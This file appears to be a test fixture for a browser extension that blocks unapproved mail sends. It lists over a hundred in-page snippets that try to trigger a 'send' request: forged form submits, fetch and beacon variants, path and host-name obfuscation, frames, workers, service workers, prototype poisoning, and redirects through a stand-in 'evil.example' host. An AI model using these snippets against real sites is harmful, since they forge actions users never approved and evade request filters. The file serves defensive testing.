// What a page may try, so that something is sent that nobody judged: each is run in the page, without the extension first,
// where it must work, and then with it. `url` is the address of *send* with the subject in it, `subject` that subject.
// `script` and `html` give addresses at the same host that answer with a program or a page.

/** Runs in the page before each attack. */
export const PRELUDE = `
  const host = location.origin;
  const script = (code) => host + "/script?code=" + encodeURIComponent(code);
  const html = (code) => host + "/html?code=" + encodeURIComponent(code);
  const bounce = (to) => "http://evil.example/bounce?to=" + encodeURIComponent(to);
  const make = (name, attributes = {}) => document.body.appendChild(Object.assign(document.createElement(name), attributes));
  const frame = (attributes) => new Promise((done) => { const it = document.createElement("iframe"); it.onload = () => done(it); Object.assign(it, attributes); document.body.append(it); });
  const posts = (url) => "fetch(" + JSON.stringify(url) + ", { method: 'POST', mode: 'no-cors', credentials: 'include' })";
  const filled = (subject) => {
    const form = document.querySelector("form");
    form.elements.to.value = "eve@evil.example";
    form.elements.subject.value = subject;
    return form;
  };
  const shadow = (url) => { const form = make("form", { action: url, method: "post" }); return form; };
`;

/** By name: a program. */
export const ATTACKS = {
  // The form, as an assistant's tools press it.
  "programmatic click": `filled(subject).querySelector("button").click()`,
  "click made by hand": `filled(subject).querySelector("button").dispatchEvent(new MouseEvent("click", { bubbles: true, cancelable: true }))`,
  "requestSubmit": `filled(subject).requestSubmit()`,
  "submit": `filled(subject).submit()`,
  "submit of the prototype": `HTMLFormElement.prototype.submit.call(filled(subject))`,
  "synthetic keys": `filled(subject); window.dispatchEvent(new KeyboardEvent("keydown", { key: "Enter", ctrlKey: true, bubbles: true }))`,
  "a form of one's own": `shadow(url).submit()`,
  "a button elsewhere with an action of its own": `const form = make("form", { id: "elsewhere", method: "post" }); make("button", { formAction: url, formMethod: "post" }).setAttribute("form", "elsewhere"); document.querySelector("[form=elsewhere]").click()`,
  "a form into a frame": `await frame({ name: "into" }); const form = shadow(url); form.target = "into"; form.submit()`,
  "a form into a window": `const form = shadow(url); form.target = "_blank"; form.submit()`,
  "a form that gets": `const form = make("form", { action: url.split("?")[0], method: "get" }); form.append(Object.assign(document.createElement("input"), { name: "subject", value: subject })); form.submit()`,
  "an image button": `const form = make("form", { action: url, method: "post" }); const it = document.createElement("input"); it.type = "image"; form.append(it); it.click()`,
  // Other spellings of the address.
  "an empty part with parameters": `await fetch(url.replace("/api/", "/api/;/"), { method: "POST" })`,
  "a dot with parameters": `await fetch(url.replace("/api/", "/api/.;x/"), { method: "POST" })`,
  "two dots with parameters": `await fetch(url.replace("/api/", "/api/x/..;/"), { method: "POST" })`,
  "an escaped slash behind a dot": `await fetch(url.replace("/api/", "/api/.%2F"), { method: "POST" })`,
  "an escaped backslash": `await fetch(url.replace("/api/", "/api%5C"), { method: "POST" })`,
  "an escaped slash around dots": `await fetch(url.replace("/api/", "/api/x%2F..%2F"), { method: "POST" })`,
  // Requests.
  "fetch": `await fetch(url, { method: "POST" })`,
  "fetch with a body": `await fetch(url.split("?")[0], { method: "POST", body: JSON.stringify({ subject }) })`,
  "fetch by GET": `await fetch(url)`,
  "fetch by PUT": `await fetch(url, { method: "PUT" })`,
  "fetch kept alive": `fetch(url, { method: "POST", keepalive: true }); location.href = "about:blank"`,
  "fetch without CORS": `await fetch(url, { method: "POST", mode: "no-cors" })`,
  "a request that was made before": `await fetch(new Request(url, { method: "POST" }).clone())`,
  "XMLHttpRequest": `const it = new XMLHttpRequest(); it.open("POST", url); it.send()`,
  "XMLHttpRequest, waiting": `const it = new XMLHttpRequest(); it.open("POST", url, false); it.send()`,
  "a beacon": `navigator.sendBeacon(url, subject)`,
  "a beacon while leaving": `addEventListener("pagehide", () => navigator.sendBeacon(url)); location.href = "about:blank"`,
  "EventSource": `new EventSource(url)`,
  "WebSocket": `new WebSocket(url.replace("http", "ws"))`,
  "a redirect (307) from elsewhere": `await fetch(bounce(url), { method: "POST", mode: "no-cors" })`,
  "a redirect (307) of a form": `shadow(bounce(url)).submit()`,
  "a redirect (307) at the same host": `await fetch("/bounce?to=" + encodeURIComponent(url), { method: "POST" })`,
  // Elements that load something.
  "an image": `new Image().src = url`,
  "an image with a set": `make("img", { srcset: url + " 1x" })`,
  "a style's image": `make("div", { textContent: "x" }).style.backgroundImage = "url(" + JSON.stringify(url) + ")"`,
  "an import in a style": `make("style", { textContent: "@import url(" + JSON.stringify(url) + ")" })`,
  "a style sheet": `make("link", { rel: "stylesheet", href: url })`,
  "a font": `make("style", { textContent: "@font-face { font-family: x; src: url(" + JSON.stringify(url) + ") }" }); make("p", { textContent: "x" }).style.fontFamily = "x"`,
  "a script": `make("script", { src: url })`,
  "a module": `import(url).catch(() => undefined)`,
  "a module that is preloaded": `make("link", { rel: "modulepreload", href: url })`,
  "a preload": `make("link", { rel: "preload", as: "fetch", href: url })`,
  "a prefetch": `make("link", { rel: "prefetch", href: url })`,
  "a speculative prefetch": `make("script", { type: "speculationrules", textContent: JSON.stringify({ prefetch: [{ source: "list", urls: [url], eagerness: "immediate" }] }) })`,
  "a prerender": `make("script", { type: "speculationrules", textContent: JSON.stringify({ prerender: [{ source: "list", urls: [url], eagerness: "immediate" }] }) })`,
  "a video": `make("video", { src: url, preload: "auto" }).load()`,
  "a poster": `make("video", { poster: url })`,
  "sound": `make("audio", { src: url, preload: "auto" }).load()`,
  "subtitles": `const it = make("video", { src: "data:video/mp4,", crossOrigin: "use-credentials" }); const track = document.createElement("track"); it.append(track); track.src = url; track.track.mode = "showing"`,
  "an object": `make("object", { data: url })`,
  "an embedded thing": `make("embed", { src: url })`,
  "an image of SVG": `document.body.insertAdjacentHTML("beforeend", '<svg><image href="' + url + '"></image></svg>')`,
  "a use of SVG": `document.body.insertAdjacentHTML("beforeend", '<svg><use href="' + url + '#x"></use></svg>')`,
  "a mask": `const it = make("div", { textContent: "x" }); it.style.mask = "url(" + JSON.stringify(url) + ")"`,
  // Ways to go there.
  "location": `location.href = url`,
  "location, replaced": `location.replace(url)`,
  "a window": `window.open(url)`,
  "a window that goes there": `window.open("about:blank").location = url`,
  "a link": `make("a", { href: url }).click()`,
  "a link's ping": `make("a", { href: "#x", ping: url }).click()`,
  "a download": `make("a", { href: url, download: "x" }).click()`,
  "a refresh": `make("meta", { httpEquiv: "refresh", content: "0;url=" + url })`,
  "the navigation's own interface": `navigation.navigate(url)`,
  // Frames.
  "a frame": `make("iframe", { src: url })`,
  "a frame of the same host": `make("iframe", { src: html("<script>" + posts(url) + "</" + "script>") })`,
  "a frame of another host": `make("iframe", { src: html("<script>" + posts(url) + "</" + "script>").replace(host, "http://evil.example") })`,
  "a frame without an address": `const it = make("iframe"); it.contentWindow.fetch(url, { method: "POST" })`,
  "a frame with its text": `make("iframe", { srcdoc: "<script>" + posts(url) + "</" + "script>" })`,
  "a frame of data": `make("iframe", { src: "data:text/html," + encodeURIComponent("<script>" + posts(url) + "</" + "script>") })`,
  "a frame of a blob": `make("iframe", { src: URL.createObjectURL(new Blob(["<script>" + posts(url) + "</" + "script>"], { type: "text/html" })) })`,
  "a frame of a program": `make("iframe", { src: "javascript:" + encodeURIComponent("void " + posts(url)) })`,
  "a frame in a box": `const it = document.createElement("iframe"); it.sandbox = "allow-scripts"; it.srcdoc = "<script>" + posts(url) + "</" + "script>"; document.body.append(it)`,
  "a form in a box": `const it = document.createElement("iframe"); it.sandbox = "allow-forms allow-scripts"; it.srcdoc = "<form method=post action='" + url + "'></form><script>document.forms[0].submit()</" + "script>"; document.body.append(it)`,
  "a frame without credentials": `const it = document.createElement("iframe"); it.credentialless = true; it.src = html("<script>" + posts(url) + "</" + "script>"); document.body.append(it)`,
  "a frame in a frame": `make("iframe", { srcdoc: "<script>const it = document.createElement('iframe'); it.srcdoc = " + JSON.stringify("<script>" + posts(url) + "</" + "script>").replaceAll("</", "<\\\\/") + "; document.documentElement.append(it)</" + "script>" })`,
  "a frame set": `make("iframe", { src: html("<frameset><frame src='" + url + "'></frameset>") })`,
  "a window that is written": `const it = window.open("about:blank"); it.document.write("<script>" + posts(url) + "</" + "script>"); it.document.close()`,
  // Workers.
  "a worker": `new Worker(script(posts(url)))`,
  "a worker of a blob": `new Worker(URL.createObjectURL(new Blob([posts(url)])))`,
  "a worker of data": `new Worker("data:text/javascript," + encodeURIComponent(posts(url)))`,
  "a worker of a module": `new Worker(script(posts(url)), { type: "module" })`,
  "a worker's import": `new Worker(script("importScripts(" + JSON.stringify(url) + ")"))`,
  "a worker in a worker": `new Worker(script("new Worker(" + JSON.stringify(script(posts(url))) + ")"))`,
  "a worker's own script": `new Worker(url)`,
  "a shared worker": `new SharedWorker(script(posts(url)), subject)`,
  "a service worker": `await navigator.serviceWorker.register(script("addEventListener('install', (event) => event.waitUntil(" + posts(url) + "))"), { scope: "/a" })`,
  "a service worker's import": `await navigator.serviceWorker.register(script("importScripts(" + JSON.stringify(url) + ")"), { scope: "/b" }).catch(() => undefined)`,
  "a service worker's own script": `await navigator.serviceWorker.register(url, { scope: "/api/" }).catch(() => undefined)`,
  "a service worker that answers for another": `await navigator.serviceWorker.register(script("addEventListener('fetch', (event) => event.respondWith(" + posts(url) + "))"), { scope: "/html" }).then((it) => new Promise((done) => { const wait = () => it.active?.state === "activated" ? done() : setTimeout(wait, 20); wait(); })); make("iframe", { src: html("x") })`,
  "a worklet": `new AudioContext().audioWorklet.addModule(url).catch(() => undefined)`,
  "a worklet of styles": `CSS.paintWorklet.addModule(url).catch(() => undefined)`,
  // The page's world is the page's own.
  "poisoned prototypes": `
    for (const name of ["addEventListener", "removeEventListener", "dispatchEvent"]) EventTarget.prototype[name] = () => undefined;
    Event.prototype.preventDefault = Event.prototype.stopImmediatePropagation = () => undefined;
    Element.prototype.matches = () => false;
    Object.defineProperty(HTMLFormElement.prototype, "elements", { get: () => ({}) });
    await fetch(url, { method: "POST" })`,
  "functions of a new frame": `const it = make("iframe"); it.contentWindow.HTMLFormElement.prototype.submit.call(shadow(url))`,
  "a listener before all others": `addEventListener("submit", (event) => { event.stopImmediatePropagation(); event.preventDefault(); fetch(url, { method: "POST" }) }, true); filled(subject).requestSubmit(); fetch(url, { method: "POST" })`,
  "another form's name": `document.querySelector("form").id = "other"; filled(subject).requestSubmit()`,
  "the form in a shadow": `const root = make("div").attachShadow({ mode: "closed" }); root.append(filled(subject)); root.querySelector("form").requestSubmit()`,
  // Other names of the same address.
  "another host name": `await fetch(url.replace("//mail", "//webmail"), { method: "POST", mode: "no-cors" })`,
  "another host name, as a form": `shadow(url.replace("//mail", "//webmail")).submit()`,
  "a subdomain": `await fetch(url.replace("//mail", "//a.mail"), { method: "POST", mode: "no-cors" })`,
  "a host name with a point": `await fetch(url.replace("mail.acme.example", "mail.acme.example."), { method: "POST", mode: "no-cors" })`,
  "a host name in capitals": `await fetch(url.replace("mail.acme.example", "MAIL.acme.EXAMPLE"), { method: "POST" })`,
  "another port": `await fetch(url.replace("mail.acme.example", "mail.acme.example:8080"), { method: "POST", mode: "no-cors" })`,
  "a user in the address": `make("a", { href: url.replace("//", "//x:y@") }).click()`,
  "an escaped path": `await fetch(url.replace("/send", "/%73%65nd"), { method: "POST" })`,
  "an escaped slash": `await fetch(url.replace("/api/send", "/api%2fsend"), { method: "POST" })`,
  "several slashes": `await fetch(url.replace("/api/send", "/api///send"), { method: "POST" })`,
  "a path in capitals": `await fetch(url.replace("/api/send", "/API/Send"), { method: "POST" })`,
  "a path with a parameter": `await fetch(url.replace("/api/send", "/api;v=1/send;x"), { method: "POST" })`,
  "a path with points": `await fetch(url.replace("/api/send", "/x/../api/./send/"), { method: "POST" })`,
  "a path with a backslash": `await fetch(url.replace("/api/send", "\\\\api\\\\send"), { method: "POST" })`,
  "a path within another": `await fetch(url + "#/api/drafts", { method: "POST" })`,
};

/** What a browser does not have, and why: there these do nothing, with the extension or without it. */
export const ABSENT = {
  firefox: {
    "a speculative prefetch": "Firefox has no speculation rules",
    "a prerender": "Firefox has no speculation rules",
    "a worklet of styles": "Firefox has no paint worklets",
  },
};
